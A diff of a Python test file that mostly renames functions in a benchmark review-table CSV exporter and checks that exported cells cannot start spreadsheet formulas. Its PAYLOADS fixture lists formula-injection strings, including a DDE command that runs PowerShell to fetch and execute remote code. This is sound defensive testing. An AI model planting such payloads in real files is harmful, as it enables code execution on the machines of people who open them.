@@ -16,13 +16,20 @@ import pytest
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
-from backends.sets.review_csv import escape, read_csv, unescape, write_csv
+from backends.sets.review_csv import escape_formula, read_review_csv, unescape_formula, write_review_csv
 from builders.benchmark_set import Tables
 from builders.decisions import Decision, apply_decisions
 from builders.errors import UserError
 from builders.ledger import Ledger
 from builders.records import from_arrow, to_arrow
-from builders.review_tables import Allow, Export, Reading, judgment_export, query_export, read_back
+from builders.review_tables import (
+    ImportTolerances,
+    ReviewExport,
+    ReviewImportResult,
+    export_judgments,
+    export_queries,
+    read_filled_table,
+)
 
 PAYLOADS = [
     "=1+1", "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget x)'!A0", '=HYPERLINK("http://x.example","click")',
@@ -107,8 +114,8 @@ def tables_of(texts: list[str], evidence: list[str] | None = None) -> Tables:
     return Tables(**{name: from_arrow(to_arrow(name, frame)) for name, frame in frames.items()})
 
 
-def exports_of(tables: Tables) -> tuple[Export, Export]:
-    return query_export(tables, "pets/v1", "d1"), judgment_export(tables, "pets/v1", "d1", 1000)
+def exports_of(tables: Tables) -> tuple[ReviewExport, ReviewExport]:
+    return export_queries(tables, "pets/v1", "d1"), export_judgments(tables, "pets/v1", "d1", 1000)
 
 
 def cells_of(path: Path) -> list[list[str]]:
@@ -130,10 +137,10 @@ def test_no_cell_begins_a_formula_and_every_cell_comes_back(where: str, tmp_path
     if where in ("note", "labels"):
         queries = replace(queries, rows=queries.rows.assign(**{where: many}))
     for export in (queries, judgments):
-        write_csv(export, tmp_path / "out.csv")
+        write_review_csv(export, tmp_path / "out.csv")
         for row in cells_of(tmp_path / "out.csv"):
             assert not [cell for cell in row if begins_risky(cell)]
-        back = read_csv(tmp_path / "out.csv")
+        back = read_review_csv(tmp_path / "out.csv")
         assert back.rows.to_dict("list") == export.rows.to_dict("list")
         assert (back.export_id, back.set_name, back.view, back.sample) == (
             export.export_id, "pets/v1", export.view, export.sample,
@@ -145,9 +152,9 @@ def test_a_note_that_is_a_formula_is_evidence_in_the_next_version_and_still_runs
     for payload in PAYLOADS:
         grade = Decision("q_000", "狗", "grade", "img_a", relevance=1, note=payload)
         after, _ = apply_decisions(tables, [grade], Ledger())
-        write_csv(judgment_export(after, "pets/v2", "d2", 9), tmp_path / "out.csv")
+        write_review_csv(export_judgments(after, "pets/v2", "d2", 9), tmp_path / "out.csv")
         assert not [cell for row in cells_of(tmp_path / "out.csv") for cell in row if begins_risky(cell)]
-        assert payload in list(read_csv(tmp_path / "out.csv").rows["evidence"])
+        assert payload in list(read_review_csv(tmp_path / "out.csv").rows["evidence"])
 
 
 # Tables are Arrow underneath, so a lone surrogate cannot be in a cell; NUL is refused at the export.
@@ -167,37 +174,37 @@ def test_any_text_comes_back_to_the_letter(texts: list[str]) -> None:
     export = exports_of(tables_of(texts))[0]
     with tempfile.TemporaryDirectory() as folder:
         path = Path(folder) / "out.csv"
-        write_csv(export, path)
-        assert read_csv(path).rows.to_dict("list") == export.rows.to_dict("list")
+        write_review_csv(export, path)
+        assert read_review_csv(path).rows.to_dict("list") == export.rows.to_dict("list")
         assert not [cell for row in cells_of(path) for cell in row if begins_risky(cell)]
 
 
 @settings(max_examples=500, deadline=None)
 @given(st.one_of(ANY_TEXT, SPICED))
 def test_the_escape_is_undone_and_nothing_else_is(text: str) -> None:
-    assert unescape(escape(text)) == text
-    assert text.startswith("'") or unescape(text) == text
+    assert unescape_formula(escape_formula(text)) == text
+    assert text.startswith("'") or unescape_formula(text) == text
 
 
 def test_an_apostrophe_that_a_person_typed_stays() -> None:
-    assert unescape("'tis a dog") == "'tis a dog"
+    assert unescape_formula("'tis a dog") == "'tis a dog"
 
 
 # --- damage -----------------------------------------------------------------------------------------------------
 
 
-def answered(tmp_path: Path) -> tuple[Export, Path]:
+def answered(tmp_path: Path) -> tuple[ReviewExport, Path]:
     """A really exported file, filled in by a careful person: every kind of answer."""
     export = exports_of(tables_of(TEXTS))[0]
-    write_csv(export, tmp_path / "queries.csv")
+    write_review_csv(export, tmp_path / "queries.csv")
     answers = {"q_000": ("drop", "", "模糊\n两行"), "q_001": ("keep", "", ""), "q_003": ("edit", "零零七", 'a "b", c'),
                "q_004": ("", "a new text", ""), "q_008": ("DROP", "", "")}  # fmt: skip
     return export, fill(tmp_path / "queries.csv", answers)
 
 
-def graded(tmp_path: Path) -> tuple[Export, Path]:
+def graded(tmp_path: Path) -> tuple[ReviewExport, Path]:
     export = exports_of(tables_of(TEXTS))[1]
-    write_csv(export, tmp_path / "judgments.csv")
+    write_review_csv(export, tmp_path / "judgments.csv")
     answers = {
         "q_000": ("1", None, "half"),
         "q_001": ("drop", None, ""),
@@ -225,11 +232,18 @@ def save(
     path.write_bytes(text.getvalue().encode(encoding))
 
 
-def taken(export: Export, path: Path, allow: Allow = Allow(), encoding: str | None = None) -> Reading:  # noqa: B008
-    return read_back(export, read_csv(path, encoding).rows, allow, "lin", "2026-01-01")
+NO_TOLERANCE = ImportTolerances()
 
 
-def refusal(export: Export, path: Path, allow: Allow = Allow(), encoding: str | None = None) -> str:  # noqa: B008
+def taken(
+    export: ReviewExport, path: Path, allow: ImportTolerances = NO_TOLERANCE, encoding: str | None = None
+) -> ReviewImportResult:
+    return read_filled_table(export, read_review_csv(path, encoding).rows, allow, "lin", "2026-01-01")
+
+
+def refusal(
+    export: ReviewExport, path: Path, allow: ImportTolerances = NO_TOLERANCE, encoding: str | None = None
+) -> str:
     """Why a file is refused, all of it; empty where it is taken."""
     try:
         reading = taken(export, path, allow, encoding)
@@ -438,7 +452,7 @@ def test_each_flag_allows_its_own_case_and_no_other(case: str, flag: str, tmp_pa
     export, path = answered(tmp_path)
     undamaged = taken(export, path).decisions
     save(path, ALLOWED[case](cells_of(path)))
-    allow = Allow(**{flag: True})
+    allow = ImportTolerances(**{flag: True})
     if case == flag:
         assert taken(export, path, allow).decisions == undamaged
     else:
@@ -447,7 +461,7 @@ def test_each_flag_allows_its_own_case_and_no_other(case: str, flag: str, tmp_pa
 
 def test_all_flags_together_still_refuse_what_none_allows(tmp_path: Path) -> None:
     export, path = answered(tmp_path)
-    everything = Allow(True, True, True, True)
+    everything = ImportTolerances(True, True, True, True)
     rows = cells_of(path)
     hopeless = [
         "column deleted",
@@ -478,10 +492,10 @@ def test_what_is_no_review_file_is_named(tmp_path: Path) -> None:
         (tmp_path / "none.csv", "No such file"),
     ):
         with pytest.raises(UserError, match=says):
-            read_csv(path)
+            read_review_csv(path)
 
 
 def test_a_text_with_nul_is_refused_at_the_export(tmp_path: Path) -> None:
     with pytest.raises(UserError, match=r"row 4 .*NUL"):
-        write_csv(exports_of(tables_of(["a", "b\x00c"]))[0], tmp_path / "out.csv")
+        write_review_csv(exports_of(tables_of(["a", "b\x00c"]))[0], tmp_path / "out.csv")
     assert not (tmp_path / "out.csv").exists()
